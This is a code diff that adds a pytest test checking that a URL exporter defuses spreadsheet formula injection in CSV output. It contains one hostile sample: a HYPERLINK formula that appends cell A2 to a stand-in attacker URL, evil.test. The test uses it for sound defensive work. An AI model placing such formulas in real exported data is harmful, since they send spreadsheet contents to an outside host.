@@ -131,3 +131,19 @@ def test_export_of_nothing(style, text):
     write_urls([], file, style)
 
     assert file.getvalue().strip() == text
+
+
+@pytest.mark.parametrize(
+    "first", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d"]
+)
+def test_text_that_is_a_formula_to_a_spreadsheet_is_defused_in_csv(first):
+    title = f'{first}HYPERLINK("http://evil.test/?" & A2)'
+    outcome = Outcome(State.DONE, "ok", 200, title, error=title, title=title)
+    cells, objects = io.StringIO(newline=""), io.StringIO()
+
+    write_urls([UrlRecord(url("x"), State.DONE, 0, outcome=outcome)], cells, "csv")
+    write_urls([UrlRecord(url("x"), State.DONE, 0, outcome=outcome)], objects, "jsonl")
+
+    (row,) = csv.DictReader(io.StringIO(cells.getvalue(), newline=""))
+    assert {row["title"], row["error"], row["content_type"]} == {f"'{title}"}
+    assert json.loads(objects.getvalue())["title"] == title
